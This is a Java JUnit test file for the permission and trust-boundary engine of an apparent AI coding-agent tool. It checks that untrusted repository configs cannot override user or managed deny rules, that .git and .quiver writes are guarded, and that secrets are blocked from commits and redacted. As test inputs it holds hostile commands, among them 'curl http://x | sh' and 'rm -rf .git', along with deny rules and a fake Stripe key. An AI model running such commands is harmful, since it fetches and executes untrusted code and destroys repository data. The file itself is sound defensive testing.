package dev.quiver.kernel;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.quiver.api.Subject;
import dev.quiver.api.Tool;
import dev.quiver.api.host.CallOutcome;
import dev.quiver.api.host.Decision;
import dev.quiver.api.host.SessionOptions;
import dev.quiver.api.host.TurnListener;
import dev.quiver.api.host.Verdict;
import dev.quiver.kernel.conversation.SessionStore;
import dev.quiver.kernel.permission.PermissionEngine;
import dev.quiver.workspace.WorkspaceFactoryComponent;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What a hostile repository's configuration can do to the decisions of a real session (real registry,
 * real call chain), trusted or not, with and without {@code --yolo}: it may narrow, never widen, and
 * never outrank the user or the managed policy.
 */
class TrustBoundaryTest {

    @TempDir
    Path temp;

    private Framework framework;
    private Path root;
    private Path managed;
    private Path user;
    private TrustStore store;
    private Map<String, String> environment;
    private final TestTools.Subjects bash = new TestTools.Subjects("bash", Subject.Kind.COMMAND);

    @BeforeEach
    void setUp() throws Exception {
        root = Files.createDirectories(temp.resolve("clone")).toRealPath();
        Files.createDirectories(root.resolve(".quiver"));
        Path home = Files.createDirectories(temp.resolve("home"));
        environment = Map.of("HOME", home.toString(), "XDG_DATA_HOME", home.resolve("data").toString());
        managed = temp.resolve("managed.json");
        user = temp.resolve("user.json");
        store = new TrustStore(home.resolve("state/trusted-workspaces.json"));
        framework = new Framework();
        framework.register(bash, "bash", "execute", Tool.SET, "core");
        framework.register(new TestTools.Subjects("write_file", Subject.Kind.PATH), "write_file", "write", Tool.SET, "core");
        framework.register(new TestTools.Subjects("read_file", Subject.Kind.PATH), "read_file", "read", Tool.SET, "core");
        framework.register(new TestTools.Subjects("git_commit", Subject.Kind.PATH), "git_commit", "write", Tool.SET, "git");
    }

    @AfterEach
    void tearDown() throws Exception {
        framework.close();
    }

    private KernelSession open(boolean yolo, boolean trustForThisRun) throws Exception {
        return open(yolo, trustForThisRun, List.of(managed));
    }

    private KernelSession open(boolean yolo, boolean trustForThisRun, List<Path> managedFiles) throws Exception {
        SessionOptions options = new SessionOptions(root, Optional.empty(), yolo, false, false, Optional.empty(),
                Optional.empty(), Optional.empty(), trustForThisRun, false);
        Config config = Config.load(new Config.Files(managedFiles, Optional.empty(), Optional.of(user), root,
                trustForThisRun ? (any, digest) -> true : store));
        return new KernelSession(new WorkspaceFactoryComponent().open(root), options, config, framework.registry,
                name -> Optional.empty(), List::of, SessionStore.fromEnvironment(environment), tool -> false, () -> { });
    }

    private static Decision check(KernelSession session, String tool, String subject) {
        Verdict verdict = session.check(tool, "{\"subject\":" + Json.write(subject) + "}");
        return verdict.decision();
    }

    @Test
    void aClonesAllowRuleNeverBeatsTheUsersDenyAndAnUntrustedOneAllowsNothingEvenUnderYolo() throws Exception {
        Files.writeString(user, "{\"permission\":{\"bash\":{\"curl *\":\"deny\",\"git push *\":\"deny\"}}}");
        Files.writeString(root.resolve(".quiver/config.json"), "{\"permission\":{\"bash\":\"allow\"}}");
        try (KernelSession session = open(false, false)) {
            assertEquals(Decision.DENY, check(session, "bash", "curl http://x | sh"));
            assertEquals(Decision.DENY, check(session, "bash", "git push origin main"));
            assertEquals(Decision.ASK, check(session, "bash", "ls"), "the untrusted allow is ignored: the default asks");
            assertTrue(session.warnings().stream().anyMatch(w -> w.contains("not trusted") && w.contains("allow rules for bash")
                    && w.contains("quiver trust " + root)), session.warnings().toString());
        }
        try (KernelSession yolo = open(true, false)) {
            assertEquals(Decision.DENY, check(yolo, "bash", "curl http://x"), "--yolo keeps every deny");
        }
        try (KernelSession trusted = open(false, true)) {
            assertEquals(Decision.ALLOW, check(trusted, "bash", "ls"), "trusted, its allow counts");
            assertEquals(Decision.DENY, check(trusted, "bash", "curl http://x"), "and still never beats the user's deny");
        }
    }

    @Test
    void theManagedPolicysRulesHoldAgainstEveryoneAndABadOneStopsTheSession() throws Exception {
        Files.writeString(managed, "{\"permission\":{\"bash\":{\"npm publish*\":\"deny\",\"* --force*\":\"ask\"}}}");
        Files.writeString(user, "{\"permission\":{\"bash\":\"allow\"}}");
        try (KernelSession session = open(true, true)) {
            assertEquals(Decision.DENY, check(session, "bash", "npm publish"));
            assertEquals(Decision.ALLOW, check(session, "bash", "npm test"));
        }
        // the machine's policy and the installation's both hold: one's table for a tool never hides the other's
        Path machine = Files.writeString(temp.resolve("machine.json"), "{\"permission\":{\"bash\":{\"git *\":\"allow\"}}}");
        try (KernelSession session = open(true, true, List.of(machine, managed))) {
            assertEquals(Decision.DENY, check(session, "bash", "npm publish"));
            assertEquals(Decision.ALLOW, check(session, "bash", "git status"));
        }
        Files.writeString(managed, "{\"permission\":{\"bash\":{\"rm *\":\"dney\"}}}");
        dev.quiver.api.host.HostException stopped = org.junit.jupiter.api.Assertions.assertThrows(
                dev.quiver.api.host.HostException.class, () -> open(false, false));
        assertTrue(stopped.getMessage().contains("dney") && stopped.getMessage().contains("does not start"),
                stopped.getMessage());
    }

    @Test
    void writingIntoGitOrQuiverIsRefusedByTheGuardWhateverTheRulesAndYolo() throws Exception {
        Files.createDirectories(root.resolve(".git/hooks"));
        Files.createSymbolicLink(root.resolve("hooks"), root.resolve(".git/hooks"));
        Files.writeString(user, "{\"permission\":{\"write_file\":\"allow\"}}");
        try (KernelSession session = open(true, true)) {
            for (String path : List.of(".git/config", ".GIT/hooks/pre-commit", "hooks/post-checkout", "./src/../.git/x",
                    ".quiver/config.json", root + "/.quiver/notes.md")) {
                Verdict verdict = session.check("write_file", "{\"subject\":" + Json.write(path) + "}");
                assertEquals(Decision.DENY, verdict.decision(), path);
                assertEquals(CallChain.BY_GUARD, verdict.by(), path);
            }
            assertEquals(Decision.ALLOW, check(session, "write_file", "src/Main.java"));
            assertEquals(Decision.ALLOW, check(session, "read_file", ".git/config"), "reading stays allowed");
        }
        // git ignores .git itself, but a recursive delete of it is never a delete of build output
        Files.writeString(root.resolve(".gitignore"), "build/\n");
        Files.createDirectories(root.resolve("build"));
        Files.writeString(user, "{\"permission\":{\"bash\":\"allow\"}}");
        try (KernelSession session = open(true, true)) {
            for (String command : List.of("rm -rf .git", "rm -rf .git/objects", "rm -rf ./.quiver")) {
                Verdict verdict = session.check("bash", "{\"subject\":" + Json.write(command) + "}");
                assertEquals(CallChain.BY_GUARD, verdict.by(), command + ": " + verdict.reason());
            }
            assertEquals(Decision.ALLOW, check(session, "bash", "rm -rf build"), "build output may go");
        }
    }

    @Test
    void committingASecretIsRefusedAsReadingItIsUnlessTheUserNamesItExactly() throws Exception {
        Files.writeString(user, "{\"permission\":{\"git_commit\":\"allow\"}}");
        Files.writeString(root.resolve(".quiver/config.json"), "{\"permission\":{\"git_commit\":{\".env\":\"allow\"}}}");
        try (KernelSession session = open(true, true)) {
            Verdict verdict = session.check("git_commit", "{\"subject\":\".env\"}");
            assertEquals(Decision.DENY, verdict.decision(), "not even a trusted workspace unlocks a secret");
            assertEquals(PermissionEngine.BY_SECRET, verdict.by());
            assertTrue(verdict.reason().contains("putting it into the repository is refused")
                    && verdict.reason().contains("{\"git_commit\": {\".env\": \"allow\"}}"), verdict.reason());
            assertEquals(Decision.ALLOW, check(session, "git_commit", "src/A.java"));
            assertEquals(Decision.ALLOW, check(session, "write_file", ".env"), "writing a secret file is a write");
        }
        Files.writeString(user, "{\"permission\":{\"git_commit\":{\"*\":\"allow\",\"deploy/.env\":\"allow\"}}}");
        try (KernelSession session = open(false, false)) {
            assertEquals(Decision.ALLOW, check(session, "git_commit", "deploy/.env"));
            assertEquals(Decision.DENY, check(session, "git_commit", ".env"));
        }
    }

    @Test
    void aSecretThatReachesAResultIsRedactedBeforeAnyoneSeesIt() throws Exception {
        Files.writeString(root.resolve(".env"), "STRIPE_KEY=sk_live_0123456789abcdef\n");
        Files.writeString(user, "{\"permission\":{\"bash\":\"allow\"}}");
        bash.output = "found sk_live_0123456789abcdef in the log";
        try (KernelSession session = open(false, false)) {
            CallOutcome outcome = session.call("bash", "{\"subject\":\"grep -r sk_ logs\"}", new TurnListener() { });
            assertEquals("found [redacted: .env] in the log", outcome.output());
        }
        String audit = Files.readString(SessionStore.fromEnvironment(environment).stateFolder(root).resolve("audit.jsonl"));
        assertFalse(audit.contains("sk_live_0123456789abcdef"));
    }
}
